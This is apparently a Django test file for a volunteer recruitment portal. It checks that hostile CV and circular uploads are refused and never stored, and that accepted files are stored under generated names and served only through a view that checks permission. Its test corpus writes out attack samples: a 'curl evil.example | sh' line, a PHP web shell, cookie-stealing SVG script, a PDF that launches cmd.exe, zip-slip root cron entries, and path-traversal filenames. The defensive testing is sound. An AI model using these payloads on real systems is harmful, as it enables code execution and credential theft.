"""Hostile files sent through the real application form: each is refused with a clear French
message and leaves nothing behind; accepted CVs get generated names and are only served, as
downloads, by the view that checks permission."""

import io
import re
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from recruitment.models import Application
from tests.recruitment.files import (
    FIVE_MB,
    MINIMAL_PDF,
    docx_bytes,
    many_entries_bytes,
    odt_bytes,
    pdf_bytes,
    pdf_with,
    zip_bomb_bytes,
)

pytestmark = pytest.mark.django_db

LETTER = (
    "Je suis l’actualité mexicaine depuis des années et je voudrais mettre ce que je sais au "
    "service des groupes locaux."
)
BOUNDARY = "----portal-hostile-upload-7MA4YWxkTrZu0gW"


@pytest.fixture(autouse=True)
def private_media(settings, tmp_path):
    settings.PRIVATE_MEDIA_ROOT = tmp_path / "private-media"
    return settings.PRIVATE_MEDIA_ROOT


def stored_files(root) -> list:
    return sorted(path for path in root.rglob("*") if path.is_file()) if root.exists() else []


def apply_url(vacancy):
    return reverse("recruitment:vacancy_apply", args=[vacancy.slug])


def answers(vacancy) -> dict:
    data = {"motivation": LETTER, "consent": "on"}
    if vacancy.minimum_commitment_months:
        data["commitment_confirmed"] = "on"
    return data


def multipart(fields: dict, filename: str, content: bytes, content_type: str) -> bytes:
    """The body a browser sends, built by hand: the test client would clean the file's name."""
    parts = [
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n{value}\r\n'.encode()
        for key, value in fields.items()
    ]
    parts.append(
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="cv"; filename="{filename}"\r\n'
        f"Content-Type: {content_type}\r\n\r\n".encode()
        + content
        + b"\r\n"
    )
    parts.append(f"--{BOUNDARY}--\r\n".encode())
    return b"".join(parts)


def post_cv(client, vacancy, filename, content, content_type="application/pdf"):
    return client.post(
        apply_url(vacancy),
        data=multipart(answers(vacancy), filename, content, content_type),
        content_type=f"multipart/form-data; boundary={BOUNDARY}",
    )


def zipped(entries: dict, prefix: bytes = b"") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return prefix + buffer.getvalue()


def big_docx() -> bytes:
    """A well-formed DOCX over 5 MB: random bytes stored without compression."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
        archive.writestr("word/media/photo.bin", b"\x8f" * FIVE_MB)
    return buffer.getvalue()


EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 64 + b"This program"
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 64
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 64
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 64
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 64
GIF = b"GIF89a\x01\x00\x01\x00" + b"\x00" * 32
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64
HTML = b"<!DOCTYPE html><html><body><script>fetch('/admin/')</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><script>x()</script></svg>'

# French fragments of the messages a person reads under the CV field.
EMPTY = "Le fichier est vide."
TOO_BIG = "le poids maximum d’un CV"
PROGRAM = "Ce fichier est un programme, pas un document"
WEB_PAGE = "Ce fichier est une page web renommée en PDF"
NOT_PDF = "Ce fichier n’est pas un vrai document PDF."
NOT_DOCX = "Ce fichier n’est pas un vrai document Word (.docx)."
NOT_ODT = "Ce fichier n’est pas un vrai texte OpenDocument (.odt)."
HIDDEN = "Ce PDF contient un script ou un autre fichier"
EXTENSION = "Envoyez votre CV en PDF, Word (.docx) ou OpenDocument (.odt)."
PATH = "Le nom du fichier ne peut pas contenir de chemin de dossier"
LONG_NAME = "au plus 200 caractères"
MACROS = "Ce document contient des macros"

HOSTILE = [
    # (id, name as the browser sends it, content, what the person reads)
    ("empty", "cv.pdf", b"", EMPTY),
    ("one-byte-over-pdf", "cv.pdf", pdf_bytes(FIVE_MB + 1), TOO_BIG),
    ("over-limit-docx", "cv.docx", big_docx(), TOO_BIG),
    ("windows-exe-as-pdf", "cv.pdf", EXE, PROGRAM),
    ("elf-as-docx", "cv.docx", ELF, PROGRAM),
    ("macho-as-odt", "cv.odt", MACHO, PROGRAM),
    ("shell-script-as-pdf", "cv.pdf", b"#!/bin/sh\ncurl evil.example | sh\n", PROGRAM),
    ("html-script-as-pdf", "cv.pdf", HTML, WEB_PAGE),
    ("svg-script-as-pdf", "cv.pdf", SVG, WEB_PAGE),
    ("svg-with-xml-prolog-and-bom", "cv.pdf", b"\xef\xbb\xbf<?xml version='1.0'?>" + SVG, WEB_PAGE),
    ("html-after-blank-lines", "cv.pdf", b"  \r\n\r\n" + HTML, WEB_PAGE),
    ("php-as-pdf", "cv.pdf", b"<?php system($_GET['c']); ?>", WEB_PAGE),
    ("polyglot-pdf-html", "cv.pdf", b"%PDF-1.4\n" + HTML + MINIMAL_PDF[9:], WEB_PAGE),
    (
        "polyglot-pdf-zip",
        "cv.pdf",
        MINIMAL_PDF + zipped({"payload.exe": EXE}),
        HIDDEN,
    ),
    (
        "pdf-with-javascript",
        "cv.pdf",
        pdf_with(b"<</S/JavaScript/JS(app.alert(1))>>"),
        HIDDEN,
    ),
    ("pdf-with-escaped-javascript", "cv.pdf", pdf_with(b"<</S/J#61vaScript>>"), HIDDEN),
    ("pdf-with-launch", "cv.pdf", pdf_with(b"<</S/Launch/F(cmd.exe)>>"), HIDDEN),
    ("pdf-with-embedded-file", "cv.pdf", pdf_with(b"<</Type/EmbeddedFile>>"), HIDDEN),
    ("docx-zip-bomb", "cv.docx", zip_bomb_bytes(), "une fois ouvert"),
    ("docx-thousands-of-parts", "cv.docx", many_entries_bytes(), "trop d’éléments"),
    ("plain-zip-as-docx", "cv.docx", zipped({"notes.txt": "hello"}), NOT_DOCX),
    (
        "docx-with-zip-slip-entry",
        "cv.docx",
        zipped(
            {
                "[Content_Types].xml": "<Types/>",
                "word/document.xml": "<w:document/>",
                "../../../etc/cron.d/evil": "* * * * * root sh",
            }
        ),
        NOT_DOCX,
    ),
    (
        "docx-with-macros",
        "cv.docx",
        zipped(
            {
                "[Content_Types].xml": "<Types/>",
                "word/document.xml": "<w:document/>",
                "word/vbaProject.bin": EXE,
            }
        ),
        MACROS,
    ),
    ("self-extracting-docx", "cv.docx", b"\x00" * 64 + docx_bytes(), NOT_DOCX),
    ("gif-zip-polyglot-as-docx", "cv.docx", GIF + docx_bytes(), NOT_DOCX),
    ("old-word-as-docx", "cv.docx", OLE2, NOT_DOCX),
    ("pdf-as-docx", "cv.docx", pdf_bytes(), NOT_DOCX),
    ("odt-with-wrong-mimetype", "cv.odt", odt_bytes("application/x-evil"), NOT_ODT),
    ("jpeg-as-odt", "cv.odt", JPEG, NOT_ODT),
    ("png-as-pdf", "cv.pdf", PNG, NOT_PDF),
    ("text-as-pdf", "cv.pdf", b"Curriculum vitae de Lucas", NOT_PDF),
    ("real-jpeg", "photo.jpg", JPEG, EXTENSION),
    ("svg-named-svg", "cv.svg", SVG, EXTENSION),
    ("double-extension-exe", "cv.pdf.exe", EXE, EXTENSION),
    ("no-extension", "cv", pdf_bytes(), EXTENSION),
    ("only-an-extension", ".pdf", pdf_bytes(), EXTENSION),
    ("trailing-space-after-extension", "cv.pdf ", pdf_bytes(), EXTENSION),
    ("right-to-left-override", "cv\u202efdp.exe", EXE, EXTENSION),
    ("nul-before-pdf", "cv.exe\x00.pdf", EXE, PROGRAM),
    ("dot-dot-slash-to-a-system-file", "../../../etc/cron.d/evil", b"* * * * * root sh", EXTENSION),
    ("dot-dot-backslash", "..\\..\\windows\\system32\\cv.pdf.bat", EXE, EXTENSION),
    ("look-alike-slashes", "..\u2215..\u2215cv.pdf", pdf_bytes(), PATH),
    ("look-alike-backslash", "..\uff3c..\uff3ccv.pdf", pdf_bytes(), PATH),
    ("three-hundred-characters", "a" * 296 + ".pdf", pdf_bytes(), LONG_NAME),
]


def test_the_corpus_is_large_enough():
    assert len(HOSTILE) >= 30
    assert len({case[0] for case in HOSTILE}) == len(HOSTILE)


@pytest.mark.parametrize(
    "name, content, message", [case[1:] for case in HOSTILE], ids=[case[0] for case in HOSTILE]
)
def test_a_hostile_file_is_refused_and_nothing_is_kept(
    client, volunteer, vacancy, private_media, name, content, message
):
    client.force_login(volunteer)
    response = post_cv(client, vacancy, name, content)
    assert response.status_code == 200
    errors = response.context["form"].errors.get("cv", [])
    assert any(message in error for error in errors), errors
    assert message in response.content.decode().replace("&#x27;", "'")
    assert not Application.objects.exists()
    assert stored_files(private_media) == []


def test_a_real_cv_is_accepted_through_the_same_road(client, volunteer, vacancy, private_media):
    """The hostile corpus is refused for what it is, not because the road is closed."""
    client.force_login(volunteer)
    response = post_cv(client, vacancy, "Mon CV.pdf", pdf_bytes())
    assert response.status_code == 302
    assert Application.objects.filter(applicant=volunteer).count() == 1


def test_a_developers_cv_that_names_javascript_in_its_text_is_accepted(client, volunteer, vacancy):
    client.force_login(volunteer)
    text = b"BT /F1 12 Tf 72 720 Td (Skills: HTML/JavaScript, Node/JS, /JavaScript) Tj ET"
    content = pdf_with(b"<</Length %d>>stream\n%s\nendstream" % (len(text), text))
    assert post_cv(client, vacancy, "cv.pdf", content).status_code == 302


@pytest.mark.parametrize(
    "name, content",
    [("Mon CV ../../secret.pdf", pdf_bytes()), ("cv.docx", docx_bytes()), ("cv.odt", odt_bytes())],
    ids=["pdf", "docx", "odt"],
)
def test_an_accepted_cv_is_stored_under_a_generated_name(
    client, volunteer, vacancy, private_media, name, content
):
    client.force_login(volunteer)
    response = post_cv(client, vacancy, name, content)
    assert response.status_code == 302
    application = Application.objects.get()
    extension = name.rsplit(".", 1)[1]
    assert re.fullmatch(rf"cvs/\d{{4}}/\d{{2}}/[0-9a-f]{{32}}\.{extension}", application.cv.name)
    [stored] = stored_files(private_media)
    assert stored.name == application.cv.name.rsplit("/", 1)[1]
    assert stored.read_bytes() == content
    # Django keeps only the last part of a name with a path; even that is only shown, not used.
    assert "/" not in application.cv_name and ".." not in application.cv.name


@pytest.fixture
def application_with_cv(volunteer, vacancy):
    applicant = Client()
    applicant.force_login(volunteer)
    assert post_cv(applicant, vacancy, "Mon CV.pdf", pdf_bytes()).status_code == 302
    return Application.objects.get()


def cv_url(application):
    return reverse("recruitment:application_cv", args=[application.pk])


def test_the_cv_is_served_as_a_download_that_is_never_sniffed(
    client, volunteer, application_with_cv
):
    client.force_login(volunteer)
    response = client.get(cv_url(application_with_cv))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Type"] == "application/pdf"
    assert b"".join(response.streaming_content) == pdf_bytes()


def test_staff_get_the_same_safe_download(staff_client, application_with_cv):
    response = staff_client.get(cv_url(application_with_cv))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"


def test_another_volunteer_gets_404(client, other_volunteer, application_with_cv):
    client.force_login(other_volunteer)
    assert client.get(cv_url(application_with_cv)).status_code == 404


def test_a_visitor_is_sent_to_log_in(client, application_with_cv):
    response = client.get(cv_url(application_with_cv))
    assert response.status_code == 302
    assert response.url.startswith(reverse("account_login"))


def test_no_public_address_serves_the_stored_file(client, application_with_cv, settings):
    """The file is under PRIVATE_MEDIA_ROOT, which no URL maps: only the view above serves it."""
    name = application_with_cv.cv.name
    for prefix in ("/media/", "/static/", "/"):
        response = client.get(prefix + name)
        assert response.status_code == 404
    with pytest.raises(ValueError):
        application_with_cv.cv.url  # noqa: B018


# The circulars' documents (staff): the same content checks on their PDFs ---------------------

CIRCULAR_HOSTILE = [
    ("polyglot-pdf-html", b"%PDF-1.4\n" + HTML + MINIMAL_PDF[9:], WEB_PAGE),
    ("pdf-with-javascript", pdf_with(b"<</S/JavaScript/JS(app.alert(1))>>"), HIDDEN),
    ("polyglot-pdf-zip", MINIMAL_PDF + zipped({"payload.exe": EXE}), HIDDEN),
    ("html-as-pdf", HTML, "Seuls les documents PDF sont acceptés."),
]


@pytest.mark.parametrize(
    "content, message",
    [case[1:] for case in CIRCULAR_HOSTILE],
    ids=[case[0] for case in CIRCULAR_HOSTILE],
)
def test_a_hostile_circular_document_is_refused(
    staff_client, circular, private_media, content, message
):
    url = reverse("actions:attachment_upload", args=[circular.pk])
    upload = SimpleUploadedFile("ua.pdf", content, content_type="application/pdf")
    response = staff_client.post(url, {"file": upload, "title": "Complément"})
    assert response.status_code == 400
    assert any(message in error for error in response.context["attachment_form"].errors["file"])
    assert not circular.attachments.exists()
    assert stored_files(private_media) == []


def test_a_plain_circular_document_is_accepted(staff_client, circular):
    url = reverse("actions:attachment_upload", args=[circular.pk])
    upload = SimpleUploadedFile("ua.pdf", pdf_bytes(), content_type="application/pdf")
    assert staff_client.post(url, {"file": upload, "title": "Complément"}).status_code == 302
    assert circular.attachments.count() == 1
